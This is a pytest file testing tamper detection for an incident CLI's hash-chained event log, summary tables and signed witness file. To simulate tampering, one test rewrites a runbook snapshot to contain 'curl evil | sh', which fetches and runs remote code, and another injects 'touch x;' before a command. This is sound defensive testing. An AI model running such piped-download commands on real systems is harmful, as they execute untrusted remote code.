"""Tampering beyond the event table, through the real CLI on a real SQLite file and on a real
PostgreSQL database.

Each test records an incident with the CLI, edits the database (or the witness) the way someone
with write access to it could, and checks that `incident verify` exits 1 and names what
was changed: every summary column of the incident, its roles, action items and runbook
snapshot, a truncated chain with its head moved back, and a chain recomputed end to end.
"""

from __future__ import annotations

import hashlib
import hmac
import json
import sqlite3
from pathlib import Path

import psycopg
import pytest

from mlops_oncall.formats.refs import public_id
from mlops_oncall.incidents.integrity import Projection
from mlops_oncall.store import tables
from mlops_oncall.store import timeline as tl

KEY = "correct horse battery staple"


# The witness is a file beside a SQLite database; a server database has none unless
# oncall.yaml names one, so a chain recomputed end to end is caught on SQLite only.
WITNESS = pytest.mark.sqlite_only("the default witness is a file beside the SQLite database")
# These rewrite the chain (and sign witness lines) through sqlite3, as a tamperer with the file.
REWRITE = pytest.mark.sqlite_only("rewrites the whole chain of the SQLite file with sqlite3")


@pytest.fixture
def db(backend_url, monkeypatch):
    """The database's URL, on each backend; the CLI of the test uses it."""
    monkeypatch.setenv("MLOPS_ONCALL_DATABASE", backend_url)
    monkeypatch.delenv("MLOPS_ONCALL_WITNESS_KEY", raising=False)
    return backend_url


def _file(db: str) -> Path:
    return Path(db.removeprefix("sqlite:///"))


def ok(r):
    assert r.code == 0, (r.out, r.err)
    return r


@pytest.fixture
def seeded(cli, db):
    """INC-0001 with every summary filled in; INC-0002 beside it (for rows moved across)."""
    ref = "INC-0001"
    ok(
        cli(
            "incident", "declare", "--title", "fraud p99 up", "--severity", "SEV2",
            "--service", "fraud-scoring", "--impact-started", "-30m", "--detected", "-20m",
            "--at", "-15m",
        )
    )  # fmt: skip
    ok(cli("incident", "ack", ref, "--at", "-14m"))
    ok(cli("incident", "assign", ref, "--role", "commander", "--who", "alice", "--at", "-14m"))
    ok(cli("incident", "assign", ref, "--role", "scribe", "--who", "bob", "--at", "-13m"))
    ok(cli("incident", "attach", ref, "model-latency-spike", "--at", "-13m"))
    ok(cli("incident", "step", ref, "what-changed", "done", "--at", "-12m"))
    ok(cli("incident", "mitigate", ref, "--at", "-10m"))
    ok(cli("incident", "resolve", ref, "--at", "-5m"))
    fields = [
        "--summary", "--impact", "--root-cause", "--trigger", "--resolution", "--authors",
        "--contributing-factors", "--went-well", "--went-wrong", "--lucky",
    ]  # fmt: skip
    args = [a for f in fields for a in (f, f"the {f[2:]}")]
    ok(cli("incident", "set", ref, *args, "--at", "-4m"))
    ok(cli("incident", "set", ref, "--postmortem-status", "final", "--at", "-4m"))
    ok(
        cli(
            "incident", "action", "add", ref, "alert", "on", "p99", "--type", "prevent",
            "--owner", "carol", "--due", "2030-01-01", "--at", "-3m",
        )
    )  # fmt: skip
    ok(cli("incident", "action", "add", ref, "runbook", "--type", "process", "--owner", "dan"))
    ok(cli("incident", "action", "done", ref, "1", "--at", "-2m"))
    ok(cli("incident", "note", ref, "last words"))
    ok(cli("incident", "declare", "--title", "other", "--severity", "SEV4"))
    assert ok(cli("incident", "verify", ref)).out.startswith("INC-0001: chain intact")
    return ref


def sql(db, statement: str, *args) -> None:
    if db.startswith("sqlite:///"):
        con = sqlite3.connect(_file(db))
        cur = con.execute(statement, args)
        assert cur.rowcount != 0, statement
        con.commit()
        con.close()
        return
    with psycopg.connect(db, autocommit=True) as conn:
        cur = conn.execute(statement.replace("?", "%s"), args)
        assert cur.rowcount != 0, statement


def rows(db, statement: str, *args) -> list[tuple]:
    if db.startswith("sqlite:///"):
        con = sqlite3.connect(_file(db))
        out = con.execute(statement, args).fetchall()
        con.close()
        return out
    with psycopg.connect(db) as conn:
        return [tuple(r) for r in conn.execute(statement.replace("?", "%s"), args).fetchall()]


def verify_fails(cli, ref: str, *named: str):
    r = cli("incident", "verify", ref)
    assert r.code == 1, (r.out, r.err)
    assert "Traceback" not in r.err
    for name in named:
        assert name in r.out, (name, r.out)
    j = cli("incident", "verify", ref, "--json").json()
    assert j["ok"] is False and j["problems"]
    return r, j


# -- the incident row: every column a report reads -----------------------------------------

SKIP = {"id", "head_seq", "head_hash"}  # the chain itself (tests/store/test_timeline.py)
INCIDENT_COLUMNS = [c.name for c in tables.Incident.c if c.name not in SKIP]


def _other_value(column: str, current):
    col = tables.Incident.c[column]
    if column == "is_drill":  # an integer on SQLite, a boolean on PostgreSQL
        return (not current) if isinstance(current, bool) else 1 - int(current)
    if column == "severity":
        return "SEV4"
    if column == "status":
        return "investigating"
    if column == "postmortem_status":
        return "draft"
    if col.type.__class__.__name__ == "UTCTimestamp":
        return "2026-01-01T00:00:00.000000Z"
    return "tampered"


def test_every_incident_column_is_replayed():
    """A new summary column must get its meaning from an event (and so a case here)."""
    p = Projection()
    p.apply(1, "2026-01-01T00:00:00.000000Z", "declared", "{}")
    assert set(p.incident) == set(INCIDENT_COLUMNS)


@pytest.mark.parametrize("column", INCIDENT_COLUMNS)
def test_edited_incident_column_is_named(cli, db, seeded, column):
    (current,) = rows(db, f"SELECT {column} FROM incident WHERE id = 1")[0]
    sql(db, f"UPDATE incident SET {column} = ? WHERE id = 1", _other_value(column, current))
    _, j = verify_fails(cli, seeded, f"incident.{column} is ")
    assert j["chain_ok"] is True  # the events are untouched: only the replay catches it
    assert [m["column"] for m in j["mismatches"]] == [f"incident.{column}"]


def test_mitigated_at_message_names_both_times(cli, db, seeded):
    (want,) = rows(db, "SELECT mitigated_at FROM incident WHERE id = 1")[0]
    sql(db, "UPDATE incident SET mitigated_at = '2026-01-01T00:00:00.000000Z' WHERE id = 1")
    r, _ = verify_fails(cli, seeded)
    assert (
        f"  incident.mitigated_at is '2026-01-01T00:00:00.000000Z' but the timeline says '{want}'"
        in r.out.splitlines()
    )


def test_a_garbage_timestamp_is_named_not_a_crash(cli, db, seeded):
    sql(db, "UPDATE incident SET resolved_at = 'yesterday-ish' WHERE id = 1")
    verify_fails(cli, seeded, "incident.resolved_at is 'yesterday-ish'")


# -- roles, action items, runbook snapshots ---------------------------------------------------


@pytest.mark.parametrize(
    ("statement", "named"),
    [
        ("UPDATE role_assignment SET who = 'mallory' WHERE role = 'commander'",
         "role_assignment[commander].who is 'mallory' but the timeline says 'alice'"),
        ("UPDATE role_assignment SET assigned_at = '2026-01-01T00:00:00.000000Z' "
         "WHERE role = 'scribe'", "role_assignment[scribe].assigned_at"),
        ("UPDATE role_assignment SET role = 'operations' WHERE role = 'scribe'",
         "role_assignment[operations] is not in the timeline"),
        ("DELETE FROM role_assignment WHERE role = 'commander'",
         "role_assignment[commander] is missing but the timeline assigns it to 'alice'"),
        ("UPDATE role_assignment SET incident_id = 2 WHERE role = 'commander'",
         "role_assignment[commander] is missing"),
        ("INSERT INTO role_assignment (incident_id, role, who, assigned_at) "
         "VALUES (1, 'communications', 'eve', '2026-01-01T00:00:00.000000Z')",
         "role_assignment[communications] is not in the timeline"),
    ],
)  # fmt: skip
def test_roles(cli, db, seeded, statement, named):
    sql(db, statement)
    verify_fails(cli, seeded, named)


ACTION_EDITS = {
    "number": "7",
    "text": "'nothing to do'",
    "type": "'mitigate'",
    "owner": "'nobody'",
    "due": "'2099-01-01'",
    "status": "'open'",
    "created_at": "'2026-01-01T00:00:00.000000Z'",
    "done_at": "'2026-01-01T00:00:00.000000Z'",
    "priority": "'P0'",
    "link": "'https://tracker.example/forged'",
}


def test_every_action_item_column_is_covered():
    names = {c.name for c in tables.ActionItem.c} - {"id", "incident_id"}
    assert names == set(ACTION_EDITS)


@pytest.mark.parametrize("column", ACTION_EDITS)
def test_edited_action_item_column_is_named(cli, db, seeded, column):
    sql(db, f"UPDATE action_item SET {column} = {ACTION_EDITS[column]} WHERE number = 1")
    named = "action_item[1] is missing" if column == "number" else f"action_item[1].{column}"
    verify_fails(cli, seeded, named)


def test_action_done_state_and_rows(cli, db, seeded):
    sql(db, "UPDATE action_item SET status = 'done' WHERE number = 2")
    verify_fails(cli, seeded, "action_item[2].status is 'done' but the timeline says 'open'")
    sql(db, "DELETE FROM action_item WHERE number = 2")
    verify_fails(cli, seeded, "action_item[2] is missing but the timeline added it (deleted)")
    sql(
        db,
        "INSERT INTO action_item (incident_id, number, text, type, owner, status, created_at) "
        "VALUES (1, 9, 'x', 'process', 'eve', 'open', '2026-01-01T00:00:00.000000Z')",
    )
    verify_fails(cli, seeded, "action_item[9] is not in the timeline")
    sql(db, "UPDATE action_item SET incident_id = 2 WHERE number = 1")
    verify_fails(cli, seeded, "action_item[1] is missing")


ATTACHED = 9  # declared, 3 milestones, ack (milestone, status), 2 roles, then the attach


@pytest.mark.parametrize(
    ("statement", "named"),
    [
        ("UPDATE triage_runbook SET snapshot = replace(snapshot, 'kubectl', 'curl evil | sh')",
         "triage_runbook[{seq}].snapshot hashes to"),
        ("UPDATE triage_runbook SET runbook_id = 'other'", "triage_runbook[{seq}].runbook_id"),
        ("UPDATE triage_runbook SET version = 'abcdefabcdef'", "triage_runbook[{seq}].version"),
        ("UPDATE triage_runbook SET attached_at = '2026-01-01T00:00:00.000000Z'",
         "triage_runbook[{seq}].attached_at"),
        ("UPDATE triage_runbook SET attached_seq = {seq}", "triage_runbook[{seq}] is missing"),
        ("UPDATE triage_runbook SET incident_id = 2", "triage_runbook[{seq}] is missing"),
        ("DELETE FROM triage_runbook",
         "triage_runbook[{seq}] is missing but event {seq} attached model-latency-spike"),
    ],
)  # fmt: skip
def test_runbook_snapshot(cli, db, seeded, statement, named):
    assert rows(db, "SELECT attached_seq FROM triage_runbook") == [(ATTACHED,)]
    sql(db, statement.format(seq=ATTACHED + 1))
    verify_fails(cli, seeded, named.format(seq=ATTACHED))


@REWRITE
def test_old_attach_events_are_checked_by_their_version_prefix(cli, db, seeded):
    """Records made before the full sha256 was in the chain carry its 12-hex prefix only."""
    q = "SELECT data FROM event WHERE incident_id = 1 AND seq = ?"
    old = json.loads(rows(db, q, ATTACHED)[0][0])
    del old["sha256"]
    _rewrite_chain(db, 1, {ATTACHED: {"data": tl.canonical_data(old)}})
    _witness(db).unlink()  # (the rewrite would be caught by the witness: not this test's point)
    assert ok(cli("incident", "verify", seeded))
    sql(db, "UPDATE triage_runbook SET snapshot = replace(snapshot, 'kubectl', 'curl')")
    verify_fails(cli, seeded, f"triage_runbook[{ATTACHED}].snapshot hashes to")


# -- the chain as a whole: truncated, recomputed; the witness and its key ---------------------


def _rewrite_chain(db, incident_id: int, edits: dict[int, dict], drop_from: int | None = None):
    """What a determined tamperer does: edit events, drop the tail, recompute every hash with
    plain SHA-256 (the recipe is public), and move the head and updated_at to match."""
    con = sqlite3.connect(_file(db))
    if drop_from is not None:
        con.execute(
            "DELETE FROM event WHERE incident_id = ? AND seq >= ?", (incident_id, drop_from)
        )
    evs = con.execute(
        "SELECT seq, ts, actor, kind, text, data FROM event WHERE incident_id = ? ORDER BY seq",
        (incident_id,),
    ).fetchall()
    prev = tl.GENESIS
    pid = public_id(incident_id)
    for seq, ts, actor, kind, text, data in evs:
        e = {"ts": ts, "actor": actor, "kind": kind, "text": text, "data": data} | edits.get(
            seq, {}
        )
        digest = tl.event_hash(pid, seq, e["ts"], actor, kind, e["text"], e["data"], prev)
        con.execute(
            "UPDATE event SET text = ?, data = ?, prev_hash = ?, hash = ? "
            "WHERE incident_id = ? AND seq = ?",
            (e["text"], e["data"], prev, digest, incident_id, seq),
        )
        prev = digest
    last_seq, last_ts = evs[-1][0], evs[-1][1]
    con.execute(
        "UPDATE incident SET head_seq = ?, head_hash = ?, updated_at = ? WHERE id = ?",
        (last_seq, prev, last_ts, incident_id),
    )
    con.commit()
    con.close()
    return last_seq


def _witness(db):
    path = _file(db)
    return path.with_name(path.name + ".witness")


@REWRITE
def test_truncated_chain_with_its_head_moved_back(cli, db, seeded):
    (head,) = rows(db, "SELECT head_seq FROM incident WHERE id = 1")[0]
    last = _rewrite_chain(db, 1, {}, drop_from=head)  # the last note, gone without a trace
    assert last == head - 1
    _, j = verify_fails(
        cli,
        seeded,
        f"the witness saw event {head}",
        f"but the timeline ends at event {head - 1}: events were deleted",
    )
    assert j["chain_ok"] is True and j["mismatches"] == []


@WITNESS
def test_fully_recomputed_chain(cli, db, seeded):
    edited = {8: {"text": "status mitigated → resolved: all fine, nothing to see"}}
    _rewrite_chain(db, 1, edited)
    _, j = verify_fails(cli, seeded, "but the witness recorded", "the chain was rewritten")
    assert j["chain_ok"] is True and j["witness"]["problems"]


@WITNESS
def test_disagreeing_witness_line(cli, db, seeded):
    w = _witness(db)
    lines = w.read_text().splitlines()
    doc = json.loads(lines[-2])
    doc["hash"] = "e" * 64
    lines[-2] = json.dumps(doc, sort_keys=True, separators=(",", ":"))
    w.write_text("\n".join(lines) + "\n")
    verify_fails(cli, seeded, f"event {doc['seq']}'s hash is", "the chain was rewritten")


@WITNESS
def test_missing_witness_is_said_not_hidden(cli, db, seeded):
    _witness(db).unlink()
    _rewrite_chain(db, 1, {8: {"text": "forged"}})
    r = cli("incident", "verify", seeded)
    # nothing left to catch a recomputed chain: verify says which check it could not make
    assert r.code == 0
    assert f"not checked: witness: {_witness(db)} does not exist" in r.out
    j = cli("incident", "verify", seeded, "--json").json()
    assert j["ok"] is True and j["witness"]["exists"] is False and j["not_checked"]


@WITNESS
def test_witness_off_says_so(cli, db, tmp_path, monkeypatch):
    (tmp_path / "oncall.yaml").write_text("witness: off\n")
    monkeypatch.setenv("MLOPS_ONCALL_CONFIG", str(tmp_path / "oncall.yaml"))
    ok(cli("incident", "declare", "--title", "t", "--severity", "SEV3"))
    assert not _witness(db).exists()
    r = ok(cli("incident", "verify", "INC-0001"))
    assert "not checked: witness: none is configured" in r.out


@WITNESS
def test_witness_path_from_the_workspace(cli, db, tmp_path, monkeypatch):
    (tmp_path / "oncall.yaml").write_text("witness: elsewhere/heads.jsonl\n")
    (tmp_path / "elsewhere").mkdir()
    monkeypatch.setenv("MLOPS_ONCALL_CONFIG", str(tmp_path / "oncall.yaml"))
    ok(cli("incident", "declare", "--title", "t", "--severity", "SEV3"))
    line = json.loads((tmp_path / "elsewhere" / "heads.jsonl").read_text())
    assert (line["incident"], line["seq"]) == ("INC-0001", 3) and "hmac" not in line


def _sign_lines(db, key: str | None, incident: str) -> None:
    """Rewrite the witness so it matches the (recomputed) chain: what a tamperer without the
    right key can do. ``key`` None drops the signatures."""
    w = _witness(db)
    con = sqlite3.connect(_file(db))
    hashes = dict(con.execute("SELECT seq, hash FROM event WHERE incident_id = 1").fetchall())
    con.close()
    out = []
    for raw in w.read_text().splitlines():
        doc = json.loads(raw)
        if doc["incident"] == incident:
            doc["hash"] = hashes.get(doc["seq"], doc["hash"])
            doc.pop("hmac", None)
            if key:
                payload = json.dumps(
                    {k: doc[k] for k in ("hash", "incident", "seq", "time")},
                    sort_keys=True,
                    separators=(",", ":"),
                ).encode()
                doc["hmac"] = hmac.new(key.encode(), payload, hashlib.sha256).hexdigest()
        out.append(json.dumps(doc, sort_keys=True, separators=(",", ":")))
    w.write_text("\n".join(out) + "\n")


@pytest.fixture
def signed(cli, db, monkeypatch):
    monkeypatch.setenv("MLOPS_ONCALL_WITNESS_KEY", KEY)
    ok(cli("incident", "declare", "--title", "signed", "--severity", "SEV3"))
    ok(cli("incident", "note", "INC-0001", "one"))
    ok(cli("incident", "note", "INC-0001", "two"))
    assert all("hmac" in json.loads(x) for x in _witness(db).read_text().splitlines())
    r = ok(cli("incident", "verify", "INC-0001"))
    assert "not checked" not in r.out and "the witness agrees" in r.out
    return "INC-0001"


@WITNESS
@pytest.mark.parametrize("forger_key", [None, "a guess"])
def test_key_present_catches_a_rewritten_witness(cli, db, signed, forger_key):
    _rewrite_chain(db, 1, {4: {"text": "forged"}})
    _sign_lines(db, forger_key, signed)
    problem = "has no signed line although" if forger_key is None else "has a bad signature"
    _, j = verify_fails(cli, signed, problem)
    assert j["chain_ok"] is True


@WITNESS
def test_key_absent_says_what_it_could_not_check(cli, db, signed, monkeypatch):
    _rewrite_chain(db, 1, {4: {"text": "forged"}})
    _sign_lines(db, None, signed)
    monkeypatch.delenv("MLOPS_ONCALL_WITNESS_KEY")
    r = cli("incident", "verify", signed)
    assert r.code == 0  # a rewritten unsigned witness matches; only the key could tell
    assert "not checked: witness signatures: MLOPS_ONCALL_WITNESS_KEY is not set" in r.out


@WITNESS
def test_key_absent_still_catches_a_recomputed_chain(cli, db, signed, monkeypatch):
    monkeypatch.delenv("MLOPS_ONCALL_WITNESS_KEY")
    _rewrite_chain(db, 1, {4: {"text": "forged"}})
    verify_fails(cli, signed, "event 4's hash is", "the chain was rewritten")


@WITNESS
def test_witness_write_failure_warns_and_keeps_the_event(cli, db, tmp_path, monkeypatch):
    (tmp_path / "oncall.yaml").write_text("witness: no-such-dir/heads.jsonl\n")
    monkeypatch.setenv("MLOPS_ONCALL_CONFIG", str(tmp_path / "oncall.yaml"))
    r = cli("incident", "declare", "--title", "t", "--severity", "SEV3")
    assert r.code == 0 and r.out.strip() == "INC-0001"
    assert r.err.startswith("warning: INC-0001 event 3 is recorded, but cannot write the witness")
    assert rows(db, "SELECT count(*) FROM event") == [(3,)]
    assert "not checked: witness:" in ok(cli("incident", "verify", "INC-0001")).out


# -- the snapshot is rechecked before a command runs ------------------------------------------


def test_an_edited_snapshot_refuses_to_run_its_commands(cli, db, seeded, tmp_path):
    from mlops_oncall.incidents.commands import run_and_record
    from mlops_oncall.incidents.service import Incidents, TamperedError
    from mlops_oncall.store.db import open_store

    marker = tmp_path / "ran"
    store = open_store(db)
    try:
        svc = Incidents(store, actor="t")
        assert svc.verified_triage(seeded).runbook.id == "model-latency-spike"
        sql(
            db,
            "UPDATE triage_runbook SET snapshot = replace(snapshot, 'kubectl', 'touch x; kubectl')",
        )
        before = rows(db, "SELECT count(*) FROM event")
        with pytest.raises(TamperedError) as err:
            run_and_record(svc, seeded, "what-changed", f"touch {marker}", timeout=5)
        assert str(err.value).startswith(
            "INC-0001: the runbook model-latency-spike does not match the timeline (the stored "
            "snapshot hashes to "
        )
        assert str(err.value).endswith(
            "its commands will not run. See `mlops-oncall incident verify INC-0001`"
        )
        assert not marker.exists() and rows(db, "SELECT count(*) FROM event") == before
        # a snapshot that is not even valid JSON is refused the same way, not a crash
        sql(db, "UPDATE triage_runbook SET snapshot = '{'")
        with pytest.raises(TamperedError):
            svc.verified_triage(seeded)
        # and an edited attach event (its sha256 changed to match) breaks its own hash
        sql(db, "UPDATE event SET data = replace(data, '\"sha256\":\"', '\"sha256\":\"0') "
            f"WHERE seq = {ATTACHED} AND incident_id = 1")  # fmt: skip
        with pytest.raises(
            TamperedError, match=f"its attach event {ATTACHED} is missing or was edited"
        ):
            svc.verified_triage(seeded)
    finally:
        store.close()


def test_no_runbook_nothing_to_check(cli, db, seeded):
    from mlops_oncall.incidents.service import Incidents
    from mlops_oncall.store.db import open_store

    store = open_store(db)
    try:
        assert Incidents(store).verified_triage("INC-0002") is None
    finally:
        store.close()


@WITNESS
def test_an_unsigned_line_after_signed_ones_fails(cli, db, signed, monkeypatch):
    monkeypatch.delenv("MLOPS_ONCALL_WITNESS_KEY")
    ok(cli("incident", "note", signed, "written without the key"))
    monkeypatch.setenv("MLOPS_ONCALL_WITNESS_KEY", KEY)
    verify_fails(cli, signed, "witness line 4 (event 6) is not signed, but the witness is signed")


@WITNESS
def test_a_torn_witness_line_is_skipped_and_said(cli, db, signed):
    with open(_witness(db), "ab") as fh:
        fh.write(b'{"hash":"ab","incident":"INC-0001","se')  # a crash mid-write
    r = ok(cli("incident", "verify", signed))
    assert "not checked: witness: 1 unreadable line(s) for this incident (skipped)" in r.out
    # the next head is glued to the torn line, and still read: a truncation after it is caught
    ok(cli("incident", "note", signed, "after the crash"))
    assert "unreadable" not in ok(cli("incident", "verify", signed)).out
    con = sqlite3.connect(_file(db))
    con.execute("DELETE FROM event WHERE seq = 6")
    con.execute(
        "UPDATE incident SET head_seq = 5, head_hash = (SELECT hash FROM event WHERE seq = 5), "
        "updated_at = (SELECT ts FROM event WHERE seq = 5)"
    )
    con.commit()
    con.close()
    verify_fails(cli, signed, "the witness saw event 6", "events were deleted")
